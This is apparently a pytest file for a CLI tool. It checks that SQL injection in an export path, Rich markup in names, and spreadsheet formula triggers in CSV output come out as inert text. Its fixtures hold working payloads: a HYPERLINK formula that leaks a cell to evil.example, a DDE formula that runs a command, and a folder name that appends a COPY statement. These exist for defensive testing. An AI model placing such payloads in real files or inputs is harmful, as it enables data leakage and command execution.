"""Hostile values through the CLI: SQL in a path, Rich markup in names and raw lines, spreadsheet formulas in CSV.

Every value here comes from a user or a file: it must come out as the same text, never run as SQL, never
styled or swallowed as markup, never evaluated by a spreadsheet opening ``--format csv`` output.
"""

from __future__ import annotations

import csv
import decimal
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from rich.console import Console
from typer.testing import CliRunner

from evrevops import cli
from evrevops.cli import app
from evrevops.core.sqltext import sql_literal, sql_literal_list

runner = CliRunner()
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A warehouse whose sites and quarantine hold markup and formulas: site A is named ``[/x] Plaza``, site B a
    HYPERLINK formula, site ``@SUM(1+1)`` is named ``-2+3``; two quarantined customers lines carry
    ``[bold red]`` and a DDE formula."""
    folder = tmp_path_factory.mktemp("hostile")
    sites = (FIXTURES / "metrics" / "sites.csv").read_text()
    sites = sites.replace("Highway Plaza", "[/x] Plaza").replace(
        "Office Park", '"' + HYPERLINK.replace('"', '""') + '"'
    )
    sites += "@SUM(1+1),-2+3,C3,commercial,hardware_sale,America/Denver,24/7,CX,X1,1,AC_1_PHASE,10,,\n"
    (folder / "sites.csv").write_text(sites)
    (folder / "cdrs.ndjson").write_text((FIXTURES / "metrics" / "cdrs.ndjson").read_text())
    (folder / "customers.csv").write_text(
        "customer_id,name,segment,revenue_model,country,currency,billing_email,created_on\n"
        "CUST-1,Acme Fleet,fleet,caas,USA,USD,ap@acme.example,2023-05-01\n"
        "CUST-2,[bold red]alarm[/bold red],fleet,,,,,2023-02-30\n"
        f"{DDE},Evil,fleet,,,,,2023-02-31\n"
    )
    db = folder / "w.duckdb"
    r = runner.invoke(app, ["--db", str(db), "ingest", str(folder), "--no-keep", "--output", "json"])
    assert r.exit_code == 0, r.output
    return db


@pytest.fixture
def wide(monkeypatch):
    """Tables as wide as they need (no cell folded over lines), so a cell's text can be found whole."""
    monkeypatch.setattr(cli, "out", Console(width=400))


# ---- SQL ---------------------------------------------------------------------------------------------


def test_sql_literal_doubles_quotes_and_keeps_everything_else():
    assert sql_literal("it's") == "'it''s'"
    assert sql_literal("a\\b\x00c\n") == "'a\\b\x00c\n'"
    assert sql_literal_list(["a'", "b"]) == "('a''', 'b')" and sql_literal_list([]) == "(NULL)"
    with pytest.raises(TypeError):
        sql_literal(1)  # type: ignore[arg-type]


def test_export_to_a_crafted_folder_writes_there_and_runs_no_sql(hostile, tmp_path):
    # the folder name closes the COPY's string and appends a statement: before the fix, this wrote pwned.csv
    pwned = tmp_path / "pwned.csv"
    out = tmp_path / "out" / f"x' (FORMAT CSV); COPY sites TO '{pwned}' (FORMAT CSV); --"
    r = runner.invoke(app, ["--db", str(hostile), "export", "--out", str(out), "--format", "json"])
    assert r.exit_code == 0, r.output
    assert not pwned.exists()
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["tables"]["sites"]["rows"] == 3
    written = {p for p in tmp_path.rglob("*") if p.is_file()}
    assert written == {out / "manifest.json", *(out / f"{t}.parquet" for t in manifest["tables"])}
    assert pq.read_table(out / "sites.parquet").num_rows == 3


def test_export_to_a_folder_with_apostrophes(hostile, tmp_path):
    out = tmp_path / "o'brien's exports"
    r = runner.invoke(app, ["--db", str(hostile), "export", "--out", str(out)])
    assert r.exit_code == 0, r.output
    assert pq.read_table(out / "sessions.parquet").num_rows == 6


# ---- Rich markup ------------------------------------------------------------------------------------


def test_a_site_named_with_a_closing_tag_lists(hostile, wide):
    r = runner.invoke(app, ["--db", str(hostile), "sites", "list"])
    assert r.exit_code == 0, r.output
    assert "[/x] Plaza" in r.stdout


def test_a_quarantined_line_with_markup_prints_as_it_is(hostile, wide):
    r = runner.invoke(app, ["--db", str(hostile), "quarantine", "--columns", "source_record,raw"])
    assert r.exit_code == 0, r.output
    assert "CUST-2,[bold red]alarm[/bold red],fleet" in r.stdout


def test_an_error_naming_a_value_with_markup_is_one_plain_line(hostile):
    r = runner.invoke(app, ["--db", str(hostile), "bill", "--site", "[/x]", "--month", "2024-03"])
    assert r.exit_code == 2, r.output
    assert r.stderr.strip() == "error: unknown site '[/x]'; known: @SUM(1+1), A, B; see `evrevops sites list`"


def test_a_file_whose_path_holds_markup_ingests(tmp_path, wide):
    folder = tmp_path / "customers["
    folder.mkdir()
    f = folder / "b].csv"  # the path reads customers[/b].csv
    f.write_text((FIXTURES / "csv" / "customers_good.csv").read_text())
    r = runner.invoke(app, ["--db", str(tmp_path / "w.duckdb"), "ingest", str(f)])
    assert r.exit_code == 0, r.output
    assert "customers[/b].csv" in r.stdout and "committed" in r.stdout
    r = runner.invoke(app, ["--db", str(tmp_path / "w.duckdb"), "ledger"])
    assert r.exit_code == 0 and "customers[/b].csv" in r.stdout


# ---- CSV formulas -----------------------------------------------------------------------------------


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_output_neutralizes_formulas(hostile):
    r = runner.invoke(app, ["--db", str(hostile), "sites", "list", "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = {x["site_id"]: x for x in _csv(r.stdout)}
    assert set(rows) == {"A", "B", "'@SUM(1+1)"}
    assert rows["B"]["name"] == "'" + HYPERLINK
    assert rows["'@SUM(1+1)"]["name"] == "'-2+3"
    assert rows["A"]["ports"] == "2"  # numbers stay numbers
    r = runner.invoke(app, ["--db", str(hostile), "quarantine", "--format", "csv"])
    raws = [x["raw"] for x in _csv(r.stdout)]
    assert any(x.startswith("'" + DDE) for x in raws), raws
    assert not any(x.startswith(("=", "+", "-", "@")) for row in _csv(r.stdout) for x in row.values())


def test_csv_cells_numbers_stay_and_every_trigger_is_escaped(capsys):
    rows = [{"i": -5, "f": -1.5, "d": decimal.Decimal("-2.50"), "s": "-3", "e": "1e-3",
             "t": "\tcmd", "r": "\r=1", "p": "+1+1", "m": "-1+2", "a": "@A1", "q": "=1", "ok": "a=b"}]  # fmt: skip
    cli.render(rows, cli.OutFormat.csv)
    got = _csv(capsys.readouterr().out)[0]
    assert (got["i"], got["f"], got["d"], got["s"], got["e"]) == ("-5", "-1.5", "-2.50", "-3", "1e-3")
    assert (got["t"], got["r"], got["p"], got["m"], got["a"], got["q"], got["ok"]) == (
        "'\tcmd", "'\r=1", "'+1+1", "'-1+2", "'@A1", "'=1", "a=b"
    )  # fmt: skip


def test_csv_raw_keeps_cells_as_they_are(hostile, monkeypatch):
    r = runner.invoke(app, ["--db", str(hostile), "--csv-raw", "sites", "list", "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = {x["site_id"]: x for x in _csv(r.stdout)}
    assert rows["B"]["name"] == HYPERLINK and rows["@SUM(1+1)"]["name"] == "-2+3"
    monkeypatch.setenv("EVREVOPS_CSV_RAW", "1")
    r = runner.invoke(app, ["--db", str(hostile), "sites", "list", "--format", "csv"])
    assert {x["site_id"] for x in _csv(r.stdout)} == {"A", "B", "@SUM(1+1)"}
    monkeypatch.delenv("EVREVOPS_CSV_RAW")
    r = runner.invoke(app, ["--db", str(hostile), "sites", "list", "--format", "csv"])
    assert "'@SUM(1+1)" in r.stdout  # the guard is back once the option is gone


def test_csv_guard_is_documented():
    r = runner.invoke(app, ["--help"])
    assert "--csv-raw" in r.stdout and "EVREVOPS_CSV_RAW" in r.stdout
    r = runner.invoke(app, ["sites", "list", "--help"])
    assert "--csv-raw" in " ".join(r.stdout.split())
